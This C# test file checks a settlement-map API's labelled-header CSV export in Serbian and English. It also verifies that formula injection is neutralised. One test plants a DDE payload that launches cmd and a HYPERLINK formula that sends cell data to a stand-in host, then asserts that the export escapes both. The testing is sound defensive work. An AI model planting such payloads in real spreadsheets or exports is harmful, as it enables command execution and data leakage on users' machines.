using System.Globalization;
using System.Text;
using CsvHelper;
using Microsoft.EntityFrameworkCore;
using SettlementMap.Tests.Http;
using SettlementMap.Tests.Infrastructure;
using SettlementMap.Web.Features.Settlements;

namespace SettlementMap.Tests.Export;

/// <summary>
/// The CSV with headers=labels: the same rows as the default one, headed by the attributes' labels in
/// the chosen language (unique, none a column's name), formulas still neutralised, and bad choices
/// refused with a problem that names the parameter.
/// </summary>
public sealed class CsvLabelledHeadersTests(AppFixture app) : IClassFixture<AppFixture>
{
    private const string Area = "/api/export/settlements?format=csv&municipality=leskovac&geometry=lonlat";

    private static List<string[]> Records(byte[] bytes)
    {
        Assert.Equal([0xEF, 0xBB, 0xBF], bytes[..3]); // the BOM spreadsheets need for Cyrillic stays
        using var reader = new StringReader(Encoding.UTF8.GetString(bytes.AsSpan(3)));
        using var csv = new CsvParser(reader, CultureInfo.InvariantCulture);
        var records = new List<string[]>();
        while (csv.Read())
        {
            records.Add(csv.Record!);
        }
        return records;
    }

    [Theory]
    [InlineData("sr-Latn")]
    [InlineData("sr-Cyrl")]
    [InlineData("en")]
    public async Task Labelled_headers_are_the_schema_labels_in_the_language_over_the_same_rows(string language)
    {
        using var client = app.Factory.CreateClient();
        var codes = Records(await client.GetByteArrayAsync(new Uri(Area, UriKind.Relative)));
        var labelled = Records(await client.GetByteArrayAsync(new Uri($"{Area}&headers=labels&lang={language}", UriKind.Relative)));

        Assert.True(codes.Count > 2, "the area has settlements");
        Assert.Equal(codes.Skip(1).Select(r => string.Join('\u001f', r)), labelled.Skip(1).Select(r => string.Join('\u001f', r)));
        var (names, headers) = (codes[0], labelled[0]);
        Assert.Equal(names.Length, headers.Length);
        Assert.Equal(headers.Length, headers.Distinct(StringComparer.Ordinal).Count());
        for (var i = 0; i < names.Length; i++)
        {
            if (names[i] is "lon" or "lat")
            {
                Assert.Equal(names[i], headers[i]); // GDAL reads the coordinates by name
                continue;
            }
            var label = SettlementSchema.Find(names[i])!.Label.In(language);
            Assert.Contains(label, headers[i], StringComparison.Ordinal);
            Assert.NotEqual(names[i], headers[i]);
        }
        var expected = new Dictionary<string, (string Column, string Header)>
        {
            ["sr-Latn"] = ("municipality_name_cyrl", "Opština (ćirilica)"),
            ["sr-Cyrl"] = ("distance_to_health_centre_m", "Удаљеност: Дом здравља (м)"),
            ["en"] = ("substandard_share_pct", "Substandard or makeshift dwellings (%)"),
        }[language];
        Assert.Equal(expected.Header, headers[Array.IndexOf(names, expected.Column)]);
    }

    [Fact]
    public async Task Labelled_headers_keep_formula_cells_neutralised()
    {
        string code;
        await using (var db = app.CreateContext())
        {
            var settlement = await db.Settlements.Include(s => s.Municipality).Where(s => s.Municipality!.Code == "vranje").OrderBy(s => s.Id).FirstAsync();
            settlement.NameLatn = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"klik\")";
            settlement.Source = "@SUM(1+1)*cmd|' /C calc'!A0";
            await db.SaveChangesAsync();
            code = settlement.Code;
        }
        using var client = app.Factory.CreateClient();
        var records = Records(await client.GetByteArrayAsync(new Uri("/api/export/settlements?format=csv&municipality=vranje&headers=labels&lang=sr-Latn", UriKind.Relative)));
        var header = records[0];
        var row = records.Single(r => r[Array.IndexOf(header, "Šifra")] == code);
        Assert.Equal("'=HYPERLINK(\"http://example.invalid/?\"&A1,\"klik\")", row[Array.IndexOf(header, "Naziv (latinica)")]);
        Assert.Equal("'@SUM(1+1)*cmd|' /C calc'!A0", row[Array.IndexOf(header, "Izvor")]);
        Assert.DoesNotContain(header, h => h.Length > 0 && "=+-@\t\r".Contains(h[0], StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("headers=names", "headers")]
    [InlineData("headers=labels&lang=fr", "lang")]
    [InlineData("headers=labels&lang=SR-LATN", "lang")]
    [InlineData("lang=en", "lang")]
    [InlineData("headers=labels&format=gpkg", "headers")]
    [InlineData("headers=labels&format=geojson", "headers")]
    public async Task Bad_header_choices_are_refused_naming_the_parameter(string query, string field)
    {
        using var client = app.Factory.CreateClient();
        var format = query.Contains("format=", StringComparison.Ordinal) ? "" : "format=csv&";
        using var response = await client.GetAsync(new Uri($"/api/export/settlements?{format}{query}", UriKind.Relative));
        await Problems.AssertAsync(response, 400, field);
    }

    [Fact]
    public async Task A_long_bad_value_is_refused_and_not_echoed_whole()
    {
        using var client = app.Factory.CreateClient();
        var value = new string('x', 500);
        using var response = await client.GetAsync(new Uri($"/api/export/settlements?format=csv&headers=labels&lang={value}", UriKind.Relative));
        var body = await Problems.AssertAsync(response, 400, "lang");
        Assert.DoesNotContain(value, body.ToString(), StringComparison.Ordinal);
    }
}
